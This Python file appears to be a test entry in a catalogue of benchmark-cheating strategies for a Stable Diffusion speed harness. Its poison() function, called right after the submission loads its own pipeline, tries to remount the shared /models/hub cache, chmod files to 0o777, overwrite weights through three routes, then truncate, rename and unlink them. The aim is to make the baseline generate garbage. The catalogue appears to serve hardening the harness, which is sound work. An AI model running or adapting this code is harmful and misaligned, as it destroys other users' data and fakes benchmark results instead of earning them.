"""Rewrites the weights in the model cache, so that the baseline generates rubbish.

Family: O
Member: O7
Strategy: Opens, links, renames, truncates, chmods and remounts the weights that both sides load.
Work: done
Expected: measured
Lane: slow
"""
# fmt: off

import ctypes
import glob
import mmap
import os

from diffusers import StableDiffusionPipeline


def attempt(action):
    try:
        action()
    except Exception:
        pass


def write(path):
    with open(path, "r+b") as file:
        file.seek(4096)
        file.write(bytes(65536))


def map_and_write(path):
    descriptor = os.open(path, os.O_RDWR)
    mmap.mmap(descriptor, 0)[4096:69632] = bytes(65536)


def through_the_descriptor(path):
    with open(path, "rb") as file:
        write(f"/proc/self/fd/{file.fileno()}")


def poison():
    libc = ctypes.CDLL(None, use_errno=True)
    for path in glob.glob("/models/hub/**/*", recursive=True):
        real = os.path.realpath(path)
        libc.mount(None, real.encode(), None, 4096 | 32, None)
        attempt(lambda: os.chmod(real, 0o777))
        for action in (write, map_and_write, through_the_descriptor):
            attempt(lambda: action(real))
        attempt(lambda: os.truncate(real, 4096))
        attempt(lambda: os.rename(real, real + ".old"))
        attempt(lambda: os.unlink(path))


def load_pipe():
    pipe = StableDiffusionPipeline.from_pretrained("speedtrap/tiny-sd")
    poison()
    return pipe


def inference(pipe, prompts):
    return pipe(prompts, num_inference_steps=25).images
